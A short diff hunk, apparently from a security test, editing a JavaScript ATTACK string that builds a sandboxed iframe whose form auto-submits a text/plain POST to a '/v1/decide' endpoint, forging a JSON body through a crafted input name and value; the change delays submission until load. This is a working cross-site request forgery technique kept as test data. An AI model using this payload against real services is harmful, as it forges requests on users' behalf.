@@ -55,7 +55,7 @@ ATTACK = """async ([at, arm]) => {
     if (sandbox) frame.sandbox = "allow-forms allow-scripts";
     frame.srcdoc = `<form method=post enctype=text/plain action="${at}/v1/decide">
       <input name='{"query":"hi","unit":"' value='"}'></form>
-      <script>document.forms[0].submit()</script>`;
+      <script>onload = () => document.forms[0].submit()</script>`;
     const over = new Promise(done => { let n = 0; frame.onload = () => { if (++n == 2) done(); };
       setTimeout(done, 3000); });
     document.body.append(frame);
